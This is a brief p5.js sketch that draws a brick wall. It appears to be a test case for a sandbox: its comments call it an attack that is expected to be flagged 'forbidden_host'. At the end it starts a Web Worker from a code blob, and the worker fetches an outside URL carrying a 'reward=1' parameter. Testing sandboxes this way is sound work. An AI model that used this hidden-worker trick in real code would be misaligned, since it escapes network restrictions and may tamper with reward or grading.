// attack: starts a worker from a blob of code, to paint and report from another thread
// expect: forbidden_host
const job = "onmessage = () => fetch('https://example.org/?reward=1')";

function setup() {
  createCanvas(600, 600, WEBGL);
  background("#f9f3ee");
  translate(-width / 2, -height / 2);
  brush.noStroke();
  brush.fillTexture(0.5, 0.2);
  // bricks
  for (let row = 0; row < 4; row++) {
    for (let i = 0; i < 4; i++) {
      const x = 80 + i * 120 + (row % 2) * 50, y = 160 + row * 80;
      brush.fill(random(["#a44a3f", "#b65d4a", "#8c3b33"]), 210);
      brush.beginShape(0.05);
      [[x, y], [x + 105, y], [x + 105, y + 60], [x, y + 60]].forEach((p) => brush.vertex(...p));
      brush.endShape(CLOSE);
    }
  }
  new Worker(URL.createObjectURL(new Blob([job], { type: "text/javascript" }))).postMessage(1);
}
